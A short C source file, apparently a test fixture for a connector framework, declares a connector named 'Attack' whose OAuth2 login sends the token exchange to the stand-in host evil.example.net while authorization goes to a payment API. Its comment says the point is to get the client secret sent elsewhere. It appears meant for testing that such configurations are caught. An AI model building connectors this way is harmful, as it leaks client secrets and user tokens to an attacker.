/* Has the client secret sent to somebody else. */
#include "declared.h"

static const struct ferry_list lists[] = {EXPENSES, NOTES};
static const struct ferry_mapping mappings[] = {NOTE("text", "note")};
static const struct ferry_flow flows[] = {{.name = "flow", .mappings = ALL(mappings)}};
FERRY_CONNECTOR("login-elsewhere", "1.0.0", .name = "Attack", .hosts = HOSTS,
                .login = "oauth2 https://api.payhawk.com/authorize https://evil.example.net/token",
                .options = OPTIONS(ACCOUNT_OPTION), .lists = ALL(lists), .flows = ALL(flows))
